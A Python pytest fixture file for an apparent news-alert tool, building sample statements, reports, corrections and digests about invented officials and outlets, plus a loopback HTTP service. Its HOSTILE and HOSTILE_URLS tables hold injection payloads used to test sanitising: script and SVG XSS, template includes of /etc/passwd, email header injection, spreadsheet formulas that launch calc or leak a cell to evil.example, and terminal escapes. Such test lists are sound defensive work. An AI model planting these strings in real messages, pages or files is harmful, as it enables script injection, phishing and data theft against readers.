"""Invented people and outlets, hostile strings, and a loopback web service that answers as told."""

import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from datetime import UTC, date, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from alerts.message import (
    AlertMessage,
    BriefingMessage,
    CheckMessage,
    CorrectionMessage,
    CorrectionsMessage,
    DigestMessage,
    Move,
    SummaryMessage,
    TroubledFeed,
)
from ingest.model import Correction, Report, Statement

WORDS = "We will not sign before the audit is finished, and no newspaper will hurry us."
LATER = "We will sign on Friday, once the audit is finished, and no newspaper will hurry us. The board has agreed."

HOSTILE = {
    "slack channel mention": "<!channel> read this",
    "slack everyone mention": "<!everyone|now>",
    "slack user mention": "<@U024BE7LH>",
    "slack group mention": "<!subteam^SAZ94GDB8>",
    "slack date": "<!date^1392734382^{date}^https://evil.example/|never>",
    "slack forged link": "<https://evil.example/login|harbourpost.example>",
    "slack escaped mention": "&lt;!channel&gt;",
    "slack markup": "*bold* _slanted_ ~struck~ `code` :skull:",
    "google mention": "<users/all>",
    "everyone": "@everyone @here @channel @all",
    "zulip everyone": "@**all**",
    "markdown link": "[harbourpost.example](https://evil.example/login)",
    "markdown image": "![x](https://evil.example/pixel.png)",
    "markdown heading": "# Heading\n- item\n1. item\n> quote",
    "markdown entity": "&lt;b&gt; &#64;here &amp;",
    "markdown reference": "[a]: https://evil.example\n[a]",
    "script": "<script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">',
    "attribute": '" onmouseover="alert(1)" x="',
    "closing tags": "</blockquote></body></html><h1>Forged</h1>",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}${HOME}",
    "right to left": "\u202egnihton dias eH\u202c",
    "isolates": "\u2067abc\u2069\u200f\u061c",
    "zero width": "si\u200bgn\u2060ed\ufeff no\u00adw",
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "c1 control": "\x9b31mred \x85 \x90",
    "carriage return": "first\rsecond\x08\x08\x08",
    "header injection": "Hello\r\nBcc: everyone@evil.example\r\n\r\nbody",
    "line separators": "one\u2028two\u2029three\x0bfour\x0cfive",
    "nul and surrogate": "a\x00b\ud800c",
    "tag characters": "hidden\U000e0041\U000e0042",
    "long word": "x" * 100_000,
    "long escape": "&" * 20_000,
    "spreadsheet formula": '=HYPERLINK("https://evil.example?x="&A1,"more")',
    "spreadsheet command": "+cmd|' /C calc'!A0",
    "spreadsheet sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spreadsheet minus": "-2+3+cmd|' /C calc'!A0",
    "full-width formula": "＝1+1",
    "formula behind a line break": "\n=1+1",
    "encoded header": "=?utf-8?B?SGVsbG8NCkJjYzogYUBiLmV4YW1wbGU=?=",
    "percent-encoded header": "Hello%0d%0aBcc: everyone@evil.example",
    "mime boundary": "--==boundary==\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "scalable vector": "<svg/onload=alert(1)><animate onbegin=alert(1)>",
    "comment and section": "<!-- x --><![CDATA[<b>]]><?php echo 1 ?>",
    "style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    "frame": "<iframe src='javascript:alert(1)'></iframe><form action=//evil.example><input></form>",
    "encoded script": "&#60;script&#62;alert(1)&#60;/script&#62; &lt;img src=x&gt;",
    "markdown autolink": "<https://evil.example/login> <mailto:a@evil.example>",
    "markdown table": "a | b\n--- | ---\n1 | 2",
    "markdown fence": "```\ncode\n``` ~~~ ---",
    "emoji flood": "😀🇺🇳👍🏽" * 500,
    "combining flood": "Z" + "\u0301\u0489" * 4000,
    "lone low surrogate": "a\udc00\udfffb",
    "hyperlink escape": "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "title escape": "\x1b]0;forged title\x07\x1b[2J\x1b[H",
    "byte order and annotation": "\ufeff\ufff9a\ufffab\ufffb",
    "forged frame": "── New statement ─────\nSomebody Else\n",
}

HOSTILE_URLS = {
    "script": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "file": "file:///etc/passwd",
    "user name": "https://harbourpost.example@evil.example/",
    "no host": "https:///path",
    "backslash": "https://harbourpost.example\\@evil.example/",
    "not a URL": "//evil.example",
    "bad port": "https://evil.example:port/",
    "bad bracket": "https://[evil/",
    "too long": "https://harbourpost.example/" + "a" * 3000,
}


@pytest.fixture(params=HOSTILE.values(), ids=HOSTILE.keys())
def hostile(request: pytest.FixtureRequest) -> str:
    """A string that tries to act where it is shown."""
    return str(request.param)


@pytest.fixture(params=HOSTILE_URLS.values(), ids=HOSTILE_URLS.keys())
def hostile_url(request: pytest.FixtureRequest) -> str:
    """An address that must not become a link."""
    return str(request.param)


def report_of(**changed: Any) -> Report:
    """A report by the Harbour Post, with some fields changed."""
    fields: dict[str, Any] = {
        "url": "https://www.harbourpost.example/politics/velden-audit",
        "source": "Harbour Post",
        "published": datetime(2026, 3, 14, 9, 12, tzinfo=UTC),
        "title": "Velden rules out a signature before the audit",
        "text": WORDS,
        "speaker": "Mara Velden",
        "role": "chair of the Lindhaven Port Authority",
        "via": None,
        "similarity": 1.0,
        "completeness": "full",
        "kind": "direct",
    }
    return Report(**{**fields, **changed})


def statement_of(**changed: Any) -> Statement:
    """A statement by Mara Velden, with some fields changed."""
    fields: dict[str, Any] = {
        "id": 12,
        "actor": "mara-velden",
        "speaker": "Mara Velden",
        "text": WORDS,
        "said_on": date(2026, 3, 13),
        "first_reported": datetime(2026, 3, 14, 9, 12, tzinfo=UTC),
        "status": "new",
        "topics": ("port-contract", "audit"),
        "reports": (report_of(),),
    }
    return Statement(**{**fields, **changed})


@pytest.fixture
def make_report() -> Any:
    """`report_of`."""
    return report_of


@pytest.fixture
def make_statement() -> Any:
    """`statement_of`."""
    return statement_of


@pytest.fixture
def new_statement() -> AlertMessage:
    """A statement in three wordings, one of them second-hand, one reported speech, the first one cut off."""
    reports = (
        report_of(completeness="partial", paragraphs=2),
        report_of(
            url="https://meridianwire.example/2026/03/14/port?id=77&lang=en",
            source="Meridian Wire",
            published=datetime(2026, 3, 14, 9, 41, tzinfo=UTC),
            text="We won't sign until the audit is complete, and the papers cannot rush us.",
            via="daily Kestrel Times",
            similarity=0.71,
        ),
        report_of(
            url="https://nordblad.example/a/1",
            source="Nordblad",
            published=None,
            text="they would not sign before the audit ended",
            kind="indirect",
            similarity=0.55,
        ),
    )
    return AlertMessage(kind="new", watch="lindhaven-port", statement=statement_of(reports=reports))


@pytest.fixture
def update() -> AlertMessage:
    """The same speaker later, with words taken out and put in."""
    later = statement_of(
        id=13,
        text=LATER,
        said_on=None,
        first_reported=datetime(2026, 3, 15, 9, 12, tzinfo=UTC),
        status="update",
        updates=12,
        updated_text=WORDS,
        topics=("audit",),
        reports=(report_of(text=LATER, published=datetime(2026, 3, 15, 9, 12, tzinfo=UTC)),),
    )
    return AlertMessage(kind="update", watch="lindhaven-port", statement=later)


@pytest.fixture
def summary(new_statement: AlertMessage, update: AlertMessage) -> SummaryMessage:
    """Two statements found on a first pass."""
    return SummaryMessage(
        watch="lindhaven-port",
        subject="first-run:lindhaven-port",
        statements=(new_statement.statement, update.statement),
        reason="first run",
    )


@pytest.fixture
def briefing(new_statement: AlertMessage, update: AlertMessage) -> BriefingMessage:
    """Three statements of one article, one of them an update with its news."""
    words = "The cranes stay where they are."
    other = statement_of(id=14, text=words, topics=("port-contract",), reports=(report_of(text=words),))
    news = replace(update, news=("The board has agreed.",), subject="quote:40")
    alerts = (news, new_statement, AlertMessage(kind="new", watch="lindhaven-port", statement=other))
    return BriefingMessage(watch="lindhaven-port", subject="briefing:13", alerts=alerts, reason="held in quiet hours")


@pytest.fixture
def digest(new_statement: AlertMessage, update: AlertMessage) -> DigestMessage:
    """A day with a new statement that was held, an update that was sent, a figure that moved and a feed that fails."""
    return DigestMessage(
        channel="desk",
        since=datetime(2026, 3, 14, 8, tzinfo=ZoneInfo("Europe/Berlin")),
        until=datetime(2026, 3, 15, 8, tzinfo=ZoneInfo("Europe/Berlin")),
        statements=(new_statement.statement, update.statement),
        sent=frozenset({13}),
        reasons={12: "the article is undated"},
        moves=(
            Move(
                counted="ships waiting, Lindhaven",
                source="Lindhaven Port Authority",
                values=("12", "at least 19", "17"),
                heights=(12, 19, 17),
                url="https://www.harbourpost.example/politics/queue",
                outlet="Harbour Post",
            ),
        ),
        feeds=(
            TroubledFeed(
                feed="nordblad",
                status="failing",
                last_success=datetime(2026, 3, 13, 21, 5, tzinfo=ZoneInfo("Europe/Berlin")),
                error="answered with status 500",
            ),
        ),
    )


@pytest.fixture
def correction(new_statement: AlertMessage) -> CorrectionMessage:
    """A person said who it was instead."""
    return CorrectionMessage(
        kind="correction",
        watch="lindhaven-port",
        statement=replace(new_statement.statement, reports=()),
        correction=Correction(
            wrong="speaker",
            text=WORDS,
            speaker="Mara Velden",
            quoted=True,
            url="https://www.harbourpost.example/politics/velden-audit",
            source="Harbour Post",
            now_by="Ilka Moor",
        ),
        subject="statement:12:0f",
        told_at=datetime(2026, 3, 14, 9, 20, tzinfo=UTC),
        reason="a person decided so",
    )


@pytest.fixture
def corrections(correction: CorrectionMessage, update: AlertMessage) -> CorrectionsMessage:
    """That one, and words that were read again."""
    words = replace(correction.correction, wrong="words", now_by=None)
    other = replace(
        correction, statement=update.statement, correction=words, reason="the article was read again", subject="x"
    )
    return CorrectionsMessage(watch="lindhaven-port", subject="corrections:7", corrections=(correction, other))


@pytest.fixture
def check() -> CheckMessage:
    """A test message."""
    return CheckMessage(channel="desk", at=datetime(2026, 3, 15, 9, tzinfo=UTC))


@pytest.fixture(
    params=["new_statement", "update", "briefing", "correction", "corrections", "summary", "digest", "check"]
)
def message(request: pytest.FixtureRequest) -> Any:
    """Each kind of message."""
    return request.getfixturevalue(request.param)


def poisoned(hostile: str) -> AlertMessage:
    """An update with the hostile string in each field that comes from the web or from a configuration."""
    report = report_of(text=hostile, source=hostile, role=hostile, via=hostile, title=hostile, completeness="partial")
    said = statement_of(
        text=f"{hostile} {WORDS}",
        speaker=hostile,
        topics=(hostile,),
        status="update",
        updates=3,
        updated_text=f"Before: {hostile}",
        reports=(report, report_of()),
    )
    return AlertMessage(kind="update", watch=hostile, statement=said, reason=hostile)


@pytest.fixture
def poisoned_updates() -> dict[str, AlertMessage]:
    """`poisoned` with every hostile string, by its name: for what takes long to set up."""
    return {name: poisoned(hostile) for name, hostile in HOSTILE.items()}


@pytest.fixture
def poisoned_update(hostile: str) -> AlertMessage:
    """`poisoned` with each hostile string."""
    return poisoned(hostile)


@dataclass
class Service:
    """A web service on loopback. It gives `answers` in turn, the last one again and again: (status, body), with
    `extra` headers; status 0 hangs until the test is over, -1 closes the connection without an answer."""

    answers: list[tuple[int, str]] = field(default_factory=lambda: [(200, "ok")])
    received: list[tuple[str, dict[str, Any]]] = field(default_factory=list)
    headers: list[dict[str, str]] = field(default_factory=list)
    extra: dict[str, str] = field(default_factory=dict)
    over: threading.Event = field(default_factory=threading.Event)
    port: int = 0

    @property
    def host(self) -> str:
        """Host and port."""
        return f"127.0.0.1:{self.port}"

    def next_answer(self) -> tuple[int, str]:
        """The answer to this request."""
        return self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]


@pytest.fixture
def service() -> Iterator[Service]:
    """A running service."""
    told = Service()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            told.received.append((self.path, json.loads(body)))
            told.headers.append(dict(self.headers))
            status, text = told.next_answer()
            if status == 0:
                told.over.wait(10)
            if status <= 0:
                self.close_connection = True
                return
            self.send_response(status)
            self.send_header("Location", f"http://{told.host}/elsewhere")
            for name, value in told.extra.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(text.encode())))
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_: object) -> None:
            """Keep the test's output clean."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    told.port = server.server_address[1]
    thread = threading.Thread(target=lambda: server.serve_forever(poll_interval=0.01), daemon=True)
    thread.start()
    yield told
    told.over.set()
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def golden() -> Any:
    """Compares a text with `golden/<name>`. A missing file is written, and the test fails once: read it, keep it."""

    def compare(name: str, text: str) -> None:
        path = Path(__file__).parent / "golden" / name
        if not path.exists():
            path.write_text(text, encoding="utf-8")
            pytest.fail(f"{path} was written: read it, then run again")
        assert text == path.read_text(encoding="utf-8")

    return compare
